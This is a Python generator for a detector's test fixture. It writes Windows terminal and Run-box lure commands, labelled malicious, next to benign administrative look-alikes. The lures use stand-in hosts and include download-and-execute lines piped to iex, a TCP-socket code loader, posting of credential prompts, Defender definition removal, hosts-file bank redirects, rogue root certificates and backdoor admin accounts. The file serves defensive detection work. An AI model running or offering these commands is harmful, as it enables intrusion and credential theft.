"""Writes tests/data/cases/b5win.jsonl: Windows, browser-console and text lure techniques that a
fifth blind set found missing, each written here in our own variants beside the everyday texts
that look like them and must stay quiet.

    python tests/data/cases/make_b5win.py

Deterministic (every variant is a product of fixed lists). Hosts are reserved names (*.test,
*.invalid, *.example) and documentation addresses (192.0.2.0/24, 198.51.100.0/24,
203.0.113.0/24); phone numbers are fictitious (555 ranges). No text is copied from a lure
collection, an IOC file, another detector's fixtures or the blind sets. Each line is
{id, text, expect, technique, platform[, source], target}.

Techniques:

- `win-foreign-feed`: software installed and run from a package feed on a stranger's web
  address (winget configure of a remote file, Register-PSRepository then Install-Module, dotnet
  tool / nuget / choco with a feed URL, then the tool run). Look-alikes: the public registries,
  an organisation's feed on Azure Artifacts or GitHub Packages, a feed set up without installing.
- `win-remote-login`: Remote Desktop (or WinRM, OpenSSH) switched on and an administrator with a
  chosen password created for a "support session". Look-alikes: an admin enabling RDP on their
  own box, adding their own domain account to Remote Desktop Users, creating a standard user.
- `win-traffic-redirect`: hosts file entries at an outside address, a proxy script (PAC) from
  the web, DNS servers set to a stranger's address. Look-alikes: loopback and 0.0.0.0 entries,
  a lab server on the local network, public resolvers, reading the proxy settings.
- `win-root-cert`: a certificate added to the trusted root store, downloaded or not.
  Look-alikes: a certificate in the personal store, listing the root store, dev-certs.
- `win-credential-prompt`: a Get-Credential prompt whose answer is posted away. Look-alikes:
  Get-Credential used for a remote session or a service.
- `win-defender-definitions`: Defender's definitions removed before a download runs.
- `runbox-share-load`, `runbox-office-uri`, `runbox-clickonce`, `runbox-appx-url`,
  `runbox-ftp-script`, `runbox-wuauclt`, `runbox-ps-network-iex`: system tools that load code
  or settings from another computer's share or the web, pasted in the Run box (bare too).
  Look-alikes: the same tools on local files.
"""

from __future__ import annotations

from pathlib import Path

from casefile import case as case_line  # beside this script (tests/data/cases/make_*.py)

OUT = Path(__file__).with_name("b5win.jsonl")
STRANGER = "https://www.garden-rota.example/allotments"
SUPPORT = "https://help.desk-remote-care.invalid/session"
ADMIN_DOCS = "https://learn.contoso-it.example/windows/admin-guide"
CONSOLE = "browser_console"


class Book:
    """Numbers the cases of each technique, lures and look-alikes apart."""

    def __init__(self) -> None:
        self.cases: list[dict[str, str]] = []
        self.counts: dict[str, int] = {}

    def add(
        self,
        technique: str,
        text: str,
        expect: str,
        platform: str = "any",
        target: str = "unknown",
        source: str | None = None,
    ) -> None:
        benign = expect in ("not_flagged", "clean", "info")
        key = ("ok-" if benign else "") + technique
        self.counts[key] = self.counts.get(key, 0) + 1
        cid = f"b5w-{key}-{self.counts[key]:02d}"
        self.cases.append(
            case_line(cid, text, expect, "none" if benign else technique, platform, source, target)
        )

    def both(self, technique: str, text: str, expect: str, target: str, source: str) -> None:
        """A lure in its context (`expect`), and bare: at least flagged."""
        self.add(technique, text, expect, "windows", target, source)
        self.add(technique, text, "flagged", "windows", "unknown")


# ---- Windows Terminal: handing the computer over ----------------------------------------------
FEEDS = ("https://feed.tool-share.test/v3/index.json", "https://pkgs.helper-kit.invalid/nuget")


def foreign_feed(book: Book) -> None:
    for feed in FEEDS:
        for text in (
            f"winget configure -f {feed.replace('/v3/index.json', '/setup.dsc.yaml').replace('/nuget', '/ws.winget')} --accept-configuration-agreements",
            f"winget configure --file {feed.rsplit('/', 1)[0]}/team.dsc.yaml --disable-interactivity --accept-configuration-agreements",
            f"Register-PSRepository -Name Desk -SourceLocation {feed} -InstallationPolicy Trusted; Install-Module DeskFix -Repository Desk -Force; Start-DeskFix",
            f'Register-PSResourceRepository -Name Fix -Uri "{feed}" -Trusted; Install-PSResource PrinterFix -Repository Fix; Repair-Printer',
            f"dotnet tool install --global InterviewKit --add-source {feed}; interview-kit begin",
            f"dotnet tool update -g Codecheck --add-source {feed} && codecheck --submit",
            f"choco install remotefix -y --source {feed}; remotefix.exe /start",
            f"nuget install DriverTool -Source {feed} -OutputDirectory $env:TEMP; & $env:TEMP\\DriverTool\\tools\\run.exe",
        ):
            book.both("win-foreign-feed", text, "malicious", "terminal", STRANGER)
    for text in (
        "winget install --id Microsoft.PowerToys -e --source winget",
        "winget configure -f .\\configuration.dsc.yaml",
        "winget configure --file C:\\dev\\setup\\configuration.winget --accept-configuration-agreements",
        "Register-PSRepository -Name Internal -SourceLocation https://pkgs.dev.azure.com/contoso/_packaging/ps/nuget/v2 -InstallationPolicy Trusted; Install-Module Contoso.Tools -Repository Internal; Get-ContosoInfo",
        "Register-PSRepository -Name Local -SourceLocation \\\\files01\\psrepo -InstallationPolicy Trusted",
        "Install-Module PSReadLine -Scope CurrentUser -Force; Import-Module PSReadLine",
        "dotnet tool install --global dotnet-ef",
        "dotnet tool install -g Contoso.Cli --add-source https://nuget.pkg.github.com/contoso/index.json; contoso --version",
        "dotnet nuget add source https://pkgs.dev.azure.com/fabrikam/_packaging/feed/nuget/v3/index.json -n fabrikam",
        "choco install git -y; git --version",
        "nuget install Newtonsoft.Json -OutputDirectory packages",
        "Register-PSRepository -Default",
    ):
        book.add("win-foreign-feed", text, "not_flagged", "windows", "terminal", ADMIN_DOCS)


def remote_login(book: Book) -> None:
    enable = (
        "Set-ItemProperty 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' -Name fDenyTSConnections -Value 0",
        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
        "Enable-PSRemoting -SkipNetworkProfileCheck -Force",
        'netsh advfirewall firewall set rule group="remote desktop" new enable=Yes',
    )
    users = (
        ("net user support7 Helpdesk!55 /add", "net localgroup administrators support7 /add"),
        (
            "New-LocalUser -Name svc_help -Password (ConvertTo-SecureString 'Fix#2026' -AsPlainText -Force)",
            "Add-LocalGroupMember -Group Administrators -Member svc_help",
        ),
        (
            "net user remotetech Tech2026x /add /y",
            'net localgroup "Remote Desktop Users" remotetech /add',
        ),
    )
    for on in enable:
        for make, grant in users:
            book.both(
                "win-remote-login", f"{on}; {make}; {grant}", "malicious", "terminal", SUPPORT
            )
    for make, grant in users:
        book.add("win-new-admin", f"{make} && {grant}", "flagged", "windows", "terminal", SUPPORT)
    for text in (
        *enable,
        "Set-ItemProperty 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' -Name fDenyTSConnections -Value 0; Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'",
        "Add-LocalGroupMember -Group 'Remote Desktop Users' -Member 'CONTOSO\\jdoe'",
        "net user guestkiosk /add /active:yes",
        "net localgroup administrators",
        "New-LocalUser -Name kiosk -NoPassword; Add-LocalGroupMember -Group Users -Member kiosk",
        "Get-LocalGroupMember -Group Administrators",
    ):
        book.add("win-remote-login", text, "not_flagged", "windows", "terminal", ADMIN_DOCS)


def traffic_redirect(book: Book) -> None:
    hosts = "$env:windir\\System32\\drivers\\etc\\hosts"
    for text in (
        f'Add-Content {hosts} "`n198.51.100.77 www.mybank-online.test"',
        "Add-Content -Path C:\\Windows\\System32\\drivers\\etc\\hosts -Value '203.0.113.45 login.payments.example'",
        "echo 198.51.100.9 secure.credit-union.test >> %windir%\\System32\\drivers\\etc\\hosts",
        f'"203.0.113.8 accounts.mail-provider.example" | Out-File -Append -Encoding ascii {hosts}',
        "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings' -Name AutoConfigURL -Value 'http://198.51.100.61/proxy.pac'",
        'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings" /v AutoConfigURL /t REG_SZ /d https://cfg.route-fast.invalid/w.pac /f',
        "Set-DnsClientServerAddress -InterfaceAlias Wi-Fi -ServerAddresses 203.0.113.53,198.51.100.53",
        'netsh interface ip set dns name="Ethernet" static 198.51.100.35',
    ):
        book.both("win-traffic-redirect", text, "flagged", "terminal", STRANGER)
    for text in (
        f'Add-Content {hosts} "`n127.0.0.1 myapp.local"',
        "echo 0.0.0.0 ads.tracker.example >> C:\\Windows\\System32\\drivers\\etc\\hosts",
        f'Add-Content {hosts} "192.168.1.20 nas.home"',
        f"Get-Content {hosts}",
        "notepad C:\\Windows\\System32\\drivers\\etc\\hosts",
        "Set-DnsClientServerAddress -InterfaceAlias Ethernet -ServerAddresses 1.1.1.1,1.0.0.1",
        "Set-DnsClientServerAddress -InterfaceIndex 12 -ServerAddresses 10.0.0.2",
        "Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings' | Select AutoConfigURL, ProxyServer",
        "netsh winhttp show proxy",
        "ipconfig /flushdns && ipconfig /registerdns",
    ):
        book.add("win-traffic-redirect", text, "not_flagged", "windows", "terminal", ADMIN_DOCS)


def root_cert(book: Book) -> None:
    for text in (
        "iwr https://pki.safe-browse.test/ca.cer -OutFile $env:TEMP\\ca.cer; Import-Certificate -FilePath $env:TEMP\\ca.cer -CertStoreLocation Cert:\\LocalMachine\\Root",
        "curl.exe -so %TEMP%\\r.crt https://203.0.113.80/r.crt & certutil -addstore -f Root %TEMP%\\r.crt",
        "(New-Object Net.WebClient).DownloadFile('https://trust.vpn-helper.invalid/root.cer', \"$env:TEMP\\root.cer\"); certutil -user -addstore Root $env:TEMP\\root.cer",
    ):
        book.both("win-root-cert", text, "malicious", "terminal", STRANGER)
    for text in (
        "Import-Certificate -FilePath .\\inspect.cer -CertStoreLocation Cert:\\CurrentUser\\Root",
        "certutil -addstore root C:\\Users\\Public\\fw-inspect.crt",
    ):
        book.add("win-root-cert", text, "flagged", "windows", "terminal", STRANGER)
    for text in (
        "Import-PfxCertificate -FilePath .\\client.pfx -CertStoreLocation Cert:\\CurrentUser\\My -Password $pw",
        "Get-ChildItem Cert:\\LocalMachine\\Root | Where-Object Subject -like '*Contoso*'",
        "dotnet dev-certs https --trust",
        "certutil -store root",
        "Import-Certificate -FilePath .\\codesign.cer -CertStoreLocation Cert:\\CurrentUser\\TrustedPublisher",
    ):
        book.add("win-root-cert", text, "not_flagged", "windows", "terminal", ADMIN_DOCS)


def credential_prompt(book: Book) -> None:
    for text in (
        "$c = Get-Credential -Message 'Your session expired. Sign in to continue'; Invoke-RestMethod https://sso-check.relay.invalid/p -Method Post -Body (@{u=$c.UserName;p=$c.GetNetworkCredential().Password}|ConvertTo-Json)",
        "$cr=$Host.UI.PromptForCredential('Windows Security','Enter your password to update Outlook','',''); iwr https://198.51.100.12/s -Method POST -Body \"$($cr.UserName):$($cr.GetNetworkCredential().Password)\"",
        "$k = Get-Credential; (New-Object Net.WebClient).UploadString('https://log.auth-sync.test/c', $k.GetNetworkCredential().Password)",
    ):
        book.both("win-credential-prompt", text, "malicious", "terminal", STRANGER)
    for text in (
        "$cred = Get-Credential; Enter-PSSession -ComputerName srv01 -Credential $cred",
        "$c = Get-Credential CONTOSO\\svc_backup; New-PSDrive -Name B -PSProvider FileSystem -Root \\\\backup01\\share -Credential $c",
        "$cred = Get-Credential; Invoke-RestMethod https://api.contoso.example/token -Credential $cred",
    ):
        book.add("win-credential-prompt", text, "not_flagged", "windows", "terminal", ADMIN_DOCS)


def defender_definitions(book: Book) -> None:
    for text in (
        '& "C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -All; iwr https://upd.tools-relay.test/a.ps1 | iex',
        '"%ProgramFiles%\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -DynamicSignatures & powershell -c "irm https://198.51.100.14/x | iex"',
    ):
        book.both("win-defender-definitions", text, "malicious", "terminal", STRANGER)
    for text in (
        '& "$env:ProgramFiles\\Windows Defender\\MpCmdRun.exe" -SignatureUpdate',
        '"%ProgramFiles%\\Windows Defender\\MpCmdRun.exe" -Scan -ScanType 1',
    ):
        book.add("win-defender-definitions", text, "not_flagged", "windows", "terminal", ADMIN_DOCS)


# ---- Run box: system tools that load from elsewhere -----------------------------------------
RUNBOX_PAGE = "https://check.human-gate.invalid/verify"


def runbox(book: Book) -> None:
    lures = {
        "runbox-share-load": (
            "netsh add helper \\\\203.0.113.31\\pub\\nh.dll",
            "netsh.exe add helper \\\\tools.share-box.test\\n\\helper64.dll",
            "reg import \\\\198.51.100.19\\cfg\\fix-display.reg",
            'reg.exe import "\\\\settings.fix-hub.invalid\\pub\\audio.reg"',
            "pnputil /add-driver \\\\drivers.hw-fix.test\\d\\cam.inf /install",
            "pnputil.exe -i -a \\\\203.0.113.90\\drv\\usb.inf",
            "rundll32 setupapi.dll,InstallHinfSection DefaultInstall 132 \\\\inf.box-share.test\\s\\w.inf",
            "rundll32.exe setupapi,InstallHinfSection DefaultInstall 128 \\\\198.51.100.44\\x\\setup.inf",
            "cmd /c type \\\\203.0.113.70\\pub\\c.txt | cmd",
            "cmd.exe /k type \\\\notes.relay-box.invalid\\s\\run.txt|powershell -",
        ),
        "runbox-office-uri": (
            "ms-word:ofe|u|https://docs.review-share.test/Contract-2026.docm",
            "ms-excel:ofe|u|https://files.sheet-relay.invalid/Q4-bonus.xlsm",
            "ms-powerpoint:ofv|u|http://198.51.100.50/deck.pptm",
        ),
        "runbox-clickonce": (
            "cmd /c start https://apps.oneclick-share.test/Viewer.application",
            "rundll32 dfshim.dll,ShOpenVerbApplication https://deploy.click-run.invalid/Setup.application",
        ),
        "runbox-appx-url": (
            "powershell -c \"Add-AppxPackage -Uri 'https://pkg.app-drop.test/Helper_1.0_x64.msix'\"",
            "powershell Add-AppxPackage -AppInstallerFile https://dist.app-relay.invalid/Viewer.appinstaller",
            "powershell -c Add-AppxPackage -Path https://198.51.100.71/c.msixbundle",
        ),
        "runbox-ftp-script": (
            'cmd /c "echo open 198.51.100.33>%temp%\\s.txt&echo anonymous>>%temp%\\s.txt&echo pw>>%temp%\\s.txt&echo get tool.exe %temp%\\tool.exe>>%temp%\\s.txt&echo quit>>%temp%\\s.txt&ftp -s:%temp%\\s.txt&%temp%\\tool.exe"',
            'cmd /c "(echo open ftp.files-relay.test&echo user x x&echo binary&echo get p.dll %tmp%\\p.dll&echo bye)>%tmp%\\c.txt&ftp -n -s:%tmp%\\c.txt&rundll32 %tmp%\\p.dll,Go"',
        ),
        "runbox-wuauclt": (
            "wuauclt /UpdateDeploymentProvider \\\\203.0.113.12\\s\\u.dll /RunHandlerComServer",
            "wuauclt.exe /UpdateDeploymentProvider C:\\Users\\Public\\wu.dll /RunHandlerComServer",
        ),
        "runbox-ps-network-iex": (
            "powershell -w h -c \"$t=New-Object System.Net.Sockets.TcpClient('198.51.100.81',443);$s=New-Object IO.StreamReader($t.GetStream());iex $s.ReadToEnd()\"",
            "powershell -c \"$d=New-Object System.Xml.XmlDocument;$d.Load('https://news.feed-relay.test/rss');iex $d.rss.channel.item[0].title\"",
            "powershell -w h -c \"$ie=New-Object -Com InternetExplorer.Application;$ie.Navigate2('https://203.0.113.5/t.txt');while($ie.Busy){sleep 1};iex $ie.Document.body.innerText\"",
        ),
    }
    for technique, texts in lures.items():
        for text in texts:
            book.add(technique, text, "malicious", "windows", "run_dialog", RUNBOX_PAGE)
            book.add(technique, text, "flagged", "windows", "unknown")
    for text in (
        "netsh advfirewall show allprofiles",
        "reg import C:\\Users\\me\\Desktop\\terminal-colors.reg",
        "pnputil /add-driver C:\\Drivers\\net\\e1d.inf /install",
        "pnputil /enum-drivers /class Display",
        "rundll32 setupapi.dll,InstallHinfSection DefaultInstall 132 C:\\Fonts\\fonts.inf",
        "type C:\\logs\\setup.log | more",
        "Add-AppxPackage -Path .\\Contoso.Notes_2.1.0_x64.msix",
        "ftp ftp.contoso.example",
        "wuauclt /detectnow",
        "$d = New-Object System.Xml.XmlDocument; $d.Load('C:\\config\\app.xml'); $d.configuration.appSettings",
        "ms-word:ofv|u|https://contoso.sharepoint.com/sites/hr/Shared%20Documents/Handbook.docx",
    ):
        book.add("runbox-share-load", text, "not_flagged", "windows", "terminal", ADMIN_DOCS)


def build() -> list[dict[str, str]]:
    book = Book()
    foreign_feed(book)
    remote_login(book)
    traffic_redirect(book)
    root_cert(book)
    credential_prompt(book)
    defender_definitions(book)
    runbox(book)
    ids = [c["id"] for c in book.cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return book.cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
